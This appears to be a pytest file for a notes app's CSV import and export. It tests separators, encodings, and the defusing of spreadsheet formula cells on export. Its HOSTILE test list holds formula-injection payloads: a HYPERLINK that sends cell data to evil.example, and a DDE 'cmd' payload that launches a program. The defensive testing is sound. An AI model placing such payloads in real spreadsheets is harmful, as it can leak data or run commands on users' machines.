"""CSV files in the forms people have: separators, encodings, and formula cells that our own
export defused coming back exactly as typed."""

from __future__ import annotations

import codecs
import csv
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from canvasapp.export.notes_csv import notes_csv
from canvasapp.formats.notes_csv import CsvImportError, notes_from_csv, session_from_csv
from canvasapp.formats.template_library import find_template
from canvasapp.model import Note, new_id
from canvasapp.ops.csv_cells import FORMULA_STARTS, defuse, undefuse
from canvasapp.ops.summary import build_summary

ROWS = [("text", "lane", "cluster"), ("Zeit fehlt; wirklich", "Drivers", "Zeit"), ("a, b", "blockers", "")]


def written(separator: str) -> str:
    out = io.StringIO(newline="")
    csv.writer(out, delimiter=separator).writerows(ROWS)
    return out.getvalue()


@pytest.fixture
def template():  # type: ignore[no-untyped-def]
    return find_template("drivers-blockers-activities")


@pytest.mark.parametrize("separator", [",", ";", "\t"])
@pytest.mark.parametrize(
    "encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be"]
)
def test_every_separator_and_unicode_encoding_reads_the_same_notes(template, separator: str, encoding: str) -> None:  # type: ignore[no-untyped-def]
    data = written(separator).encode(encoding)
    lanes = session_from_csv(written(",").encode(), template, "x").lanes
    notes = notes_from_csv(data, lanes)
    assert [(note.text, note.lane_id) for note in notes] == [("Zeit fehlt; wirklich", "drivers"), ("a, b", "blockers")]


@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_a_one_column_file_is_read_whatever_its_cells_hold(template, separator: str) -> None:  # type: ignore[no-untyped-def]
    texts = ["hello; there", "with, comma", "a\ttab", "plain", "two; of, each; kind, here"]
    out = io.StringIO(newline="")
    csv.writer(out, delimiter=separator).writerows([["text"], *([text] for text in texts)])
    session = session_from_csv(out.getvalue().encode(), template, "x")
    assert [note.text for note in session.notes] == texts


@pytest.mark.parametrize(
    "data",
    [
        "text\ncafé\n".encode("latin-1"),
        "text\nЗдравствуйте\n".encode("cp1251"),
        "text\n日本語\n".encode("shift_jis"),
        "text\ncafé\n".encode("utf-32"),
    ],
)
def test_other_encodings_are_refused_with_save_as_csv_utf8(template, data: bytes) -> None:  # type: ignore[no-untyped-def]
    with pytest.raises(CsvImportError) as caught:
        session_from_csv(data, template, "x", "notes.csv")
    message = str(caught.value)
    assert "\n" not in message
    assert "CSV UTF-8" in message or "binary data" in message


HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=cmd|' /C calc'!A0",
    "\r=1",
    "'=already an apostrophe",
    "''+two",
    "'plain quote",
    "normal note",
    "",
]


def test_export_defuses_formulas_and_import_gives_back_the_typed_text(template) -> None:  # type: ignore[no-untyped-def]
    session = session_from_csv(b"text\nx\n", template, "Formulas")
    session.remove_notes([note.id for note in session.notes])
    session.add_notes(
        Note(id=new_id(), lane_id=session.lanes[index % 3].id, text=text, x=40 + 230 * (index % 3), y=220 + 170 * index)
        for index, text in enumerate(HOSTILE)
    )
    data = notes_csv(build_summary(session))
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    # No cell a spreadsheet opens starts like a formula.
    for row in rows:
        for cell in row:
            assert cell[:1] not in tuple(FORMULA_STARTS), (cell, row)
    back = session_from_csv(data, template, "Back")
    assert sorted(note.text.replace("\r", "\n") for note in back.notes) == sorted(
        text.replace("\r", "\n") for text in HOSTILE
    )


def test_formula_titles_of_lanes_and_clusters_survive_the_round_trip(template) -> None:  # type: ignore[no-untyped-def]
    data = b"text,lane,cluster\nhi,blockers,=SUM(A1)\n"
    session = session_from_csv(data, template, "x")
    exported = notes_csv(build_summary(session)).decode("utf-8-sig")
    assert "'=SUM(A1)" in exported
    again = session_from_csv(exported.encode(), template, "y")
    assert [cluster.title for cluster in again.clusters] == ["=SUM(A1)"]


@settings(max_examples=300)
@given(st.text(alphabet=st.sampled_from("'=+-@\t\rab "), max_size=8) | st.text())
def test_defuse_is_undone_exactly_and_never_starts_like_a_formula(cell: str) -> None:
    assert undefuse(defuse(cell)) == cell
    assert defuse(cell)[:1] not in tuple(FORMULA_STARTS)


def test_a_byte_order_mark_of_utf16_with_broken_text_is_one_sentence(template) -> None:  # type: ignore[no-untyped-def]
    with pytest.raises(CsvImportError, match="CSV UTF-8"):
        session_from_csv(codecs.BOM_UTF16_LE + b"t\x00e\x00\x00\xd8", template, "x")


@settings(max_examples=60, deadline=None)
@given(texts=st.lists(st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\r\x00"), max_size=30), min_size=1, max_size=8))
def test_any_typed_text_comes_back_exactly_through_export_and_import(texts: list[str]) -> None:
    template = find_template("drivers-blockers-activities")
    session = session_from_csv(b"text\nx\n", template, "Any")
    session.remove_notes([note.id for note in session.notes])
    session.add_notes(
        Note(id=new_id(), lane_id=session.lanes[0].id, text=text, x=40, y=220 + 170 * index)
        for index, text in enumerate(texts)
    )
    data = notes_csv(build_summary(session))
    back = session_from_csv(data, template, "Back")
    assert sorted(note.text for note in back.notes) == sorted(texts)
